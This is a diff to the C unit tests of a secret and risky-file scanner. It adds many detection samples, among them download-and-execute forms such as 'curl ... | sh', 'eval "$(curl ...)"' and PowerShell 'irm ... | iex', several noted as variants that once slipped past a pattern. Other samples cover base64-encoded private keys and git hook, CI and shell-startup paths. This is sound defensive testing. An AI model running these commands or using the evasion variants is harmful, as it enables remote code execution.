@@ -9,6 +9,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <fcntl.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 #include "api/diff.h"
@@ -128,6 +129,16 @@ static void parser_files(void **state) {
   assert_non_null(strstr(err.msg, "/nonexistent/rules"));
   assert_int_equal(jb_scan_rules_load("/", &r, &err), -1);
   assert_non_null(strstr(err.msg, "not a regular file"));
+  /* a FIFO nobody writes to is refused at once, not waited on (the start must not hang) */
+  char fifo[] = "/tmp/jbscanfifo.XXXXXX";
+  assert_non_null(mkdtemp(fifo));
+  char fifo_path[64];
+  snprintf(fifo_path, sizeof fifo_path, "%s/rules", fifo);
+  assert_int_equal(mkfifo(fifo_path, 0600), 0);
+  assert_int_equal(jb_scan_rules_load(fifo_path, &r, &err), -1);
+  assert_non_null(strstr(err.msg, "not a regular file"));
+  unlink(fifo_path);
+  rmdir(fifo);
   char path[] = "/tmp/jbscan.XXXXXX";
   int fd = mkstemp(path);
   assert_true(fd >= 0);
@@ -190,6 +201,11 @@ static const struct sample samples[] = {
     {"private_key", true, "k", "-----BEGIN ENCRYPTED PRIVATE KEY-----\n", NULL},
     {"private_key", true, "k", "-----BEGIN OPENSSH PRIVATE\nKEY-----\n", NULL}, /* split across lines */
     {"private_key", true, "k.txt", NULL, utf16_key},                             /* UTF-16LE */
+    {"private_key", true, "kubeconfig", "    client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQo=\n", NULL},
+    {"private_key", true, "s.yaml", "tls.key: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUU=\n", NULL},
+    {"private_key", true, "s.yaml", "k: LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K\n", NULL},
+    {"private_key", false, "kubeconfig", "certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUM=\n", NULL},
+    {"private_key", false, "k.b64", "LS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS0K\n", NULL}, /* a public key */
     {"private_key", false, "k", "-----BEGIN PUBLIC KEY-----\n", NULL},
     {"private_key", false, "k", "a private key begins with BEGIN\n", NULL},
     {"aws_access_key_id", true, "c", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n", NULL},
@@ -216,12 +232,57 @@ static const struct sample samples[] = {
     {"download_and_execute", true, "s.sh", "curl -fsSL https://cdn.example.com/www/install | sh\n", NULL},
     {"download_and_execute", true, "s.sh", "curl -o a https://x/a; curl https://x/b | zsh\n", NULL},
     {"download_and_execute", true, "s.sh", "curl https://x.example/wget.sh | sh\n", NULL},
+    /* forms that went past an earlier pattern (breakscan) */
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sh; echo done\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i|sh&&echo\n", NULL},
+    {"download_and_execute", true, "s.sh", "(curl -fsSL https://x/i | sh)\n", NULL},
+    {"download_and_execute", true, "s.sh", "x=`curl -fsSL https://x/i | sh`\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i \\\n  | bash\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i |& bash\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | tee /dev/stderr | sh\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | env bash\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sudo -u root bash\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | busybox sh\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | fish\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | php\n", NULL},
+    {"download_and_execute", true, "s.sh", "eval \"$(curl -fsSL https://x/i)\"\n", NULL},
+    {"download_and_execute", true, "s.sh", "source <(curl -fsSL https://x/i)\n", NULL},
+    {"download_and_execute", true, "s.sh", ". <(wget -qO- https://x/i)\n", NULL},
+    {"download_and_execute", true, "s.sh", "bash -c \"`curl -fsSL https://x/i`\"\n", NULL},
+    {"download_and_execute", true, "s.sh", "sh -c '$(curl -fsSL https://x/i)'\n", NULL},
+    {"download_and_execute", true, "s.sh", "bash <<< \"$(curl -fsSL https://x/i)\"\n", NULL},
+    {"download_and_execute", true, "a.ps1", "irm https://x/i | iex\n", NULL},
+    {"download_and_execute", true, "a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://x/i')\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sh\r\n", NULL},
+    {"download_and_execute", false, "s.sh", "curl -fsSL https://x/i | grep -q bash\n", NULL},
+    {"download_and_execute", false, "s.sh", "curl -fsSL https://x/i | tee shell.log\n", NULL},
+    {"download_and_execute", false, "s.sh", "version=$(curl -fsSL https://x/version)\n", NULL},
+    {"download_and_execute", false, "s.sh", "echo \"$(curl -fsSL https://x/version)\"\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -o out.tgz https://x.example/a.tgz\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -fsSL https://x.example/i | tee log\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -o i.sh https://x.example/i\n| sh is on the next line\n", NULL},
     {"git_hooks", true, ".git/hooks/pre-commit", "#!/bin/sh\n", NULL},
     {"git_hooks", true, "sub/.git/hooks/post-checkout", "#!/bin/sh\n", NULL},
     {"git_hooks", true, ".git/modules/m/hooks/pre-commit", "#!/bin/sh\n", NULL}, /* a submodule's */
+    {"git_hooks", true, ".GIT/Hooks/pre-commit", "#!/bin/sh\n", NULL}, /* case-insensitive file systems */
+    {"git_hooks", true, ".husky/pre-commit", "npm test\n", NULL},
+    {"git_hooks", true, ".githooks/pre-push", "#!/bin/sh\n", NULL},
+    {"git_config", true, ".git/config.worktree", "[core]\n\tfsmonitor = ./x\n", NULL},
+    {"git_config", true, ".git/worktrees/w/config.worktree", "[core]\n", NULL},
+    {"git_config", true, "sub/.git", "gitdir: ../not-a-repo\n", NULL}, /* a gitdir pointer file */
+    {"git_config", true, ".Git/Config", "[core]\n", NULL},
+    {"git_config", false, "sub/.gitignore", "*.o\n", NULL},
+    {"ci_definition", true, ".github/actions/setup/action.yml", "runs: {}\n", NULL},
+    {"ci_definition", true, ".GitHub/Workflows/ci.yml", "on: push\n", NULL},
+    {"ci_definition", true, ".drone.yml", "kind: pipeline\n", NULL},
+    {"ci_definition", false, ".github/CODEOWNERS", "* @a\n", NULL},
+    {"shell_startup", true, ".BASHRC", "x\n", NULL},
+    {"shell_startup", true, ".bash_aliases", "alias ls='x'\n", NULL},
+    {"shell_startup", true, ".bashrc.d/10-x.sh", "x\n", NULL},
+    {"shell_startup", true, ".xsessionrc", "x\n", NULL},
+    {"shell_startup", false, "docs/xsession.md", "x\n", NULL},
+    {"shell_startup", true, ".config/fish/config.fish", "set x 1\n", NULL},
+    {"shell_startup", true, ".config/fish/conf.d/z.fish", "set x 1\n", NULL},
     {"git_hooks", false, ".git/HEAD", "ref: refs/heads/main\n", NULL},
     {"git_config", true, ".git/config", "[core]\n\thooksPath = scripts\n", NULL},
     {"git_config", true, "sub/.git/config", "[core]\n\tfsmonitor = ./x\n", NULL},
@@ -334,7 +395,9 @@ static void match_limit(void **state) {
   assert_int_equal(jb_scan_rules_load(NULL, &d, &err), 0);
   size_t n = 1024 * 1024;
   char *big = malloc(n);
-  static const char *const nearly[] = {"curl ", "curl -x cwcw ", "BEGIN ", "BEGIN RSA ", "AKIA", "ghp_", "sh <(", "xox", NULL};
+  static const char *const nearly[] = {"curl ", "curl -x cwcw ", "BEGIN ", "BEGIN RSA ", "AKIA", "ghp_", "sh <(", "xox",
+                                       "curl | sudo a b c d e f g ", "curl -s \\\n", "eval \"$(", "sh -c -x ", "iwr a ", "iex (", "curl a|b",
+                                       "| sudo a b c d e f g h ", " /a/a/a", "LS0tLS1CRUdJTi", NULL};
   for (size_t k = 0; nearly[k]; k++) {
     size_t w = strlen(nearly[k]), m = n - n % w;
     for (size_t i = 0; i + w <= m; i += w) memcpy(big + i, nearly[k], w);
@@ -342,6 +405,20 @@ static void match_limit(void **state) {
     if (json_array_size(f) != 0) fail_msg("1 MiB of '%s' flagged: %s", nearly[k], json_dumps(f, 0));
     json_decref(f);
   }
+  /* one line of 1 MiB after a curl, an eval or a shell with options: a pattern that keeps a
+   * backtracking point per character would stop at the JIT stack or match limit (flagged) */
+  static const char *const leads[] = {"curl ", "eval ", "sh ", "iwr ", NULL};
+  static const char fills[] = {'a', '-', ' ', '\\'};
+  for (size_t k = 0; leads[k]; k++)
+    for (size_t j = 0; j < sizeof fills; j++) {
+      size_t w = strlen(leads[k]);
+      memcpy(big, leads[k], w);
+      memset(big + w, fills[j], n - w);
+      f = jb_scan_run(d, "x", (const unsigned char *)big, n);
+      if (json_array_size(f) != 0)
+        fail_msg("'%s' and 1 MiB of '%c' flagged: %s", leads[k], fills[j], json_dumps(f, 0));
+      json_decref(f);
+    }
   free(big);
   jb_scan_rules_free(d);
 }
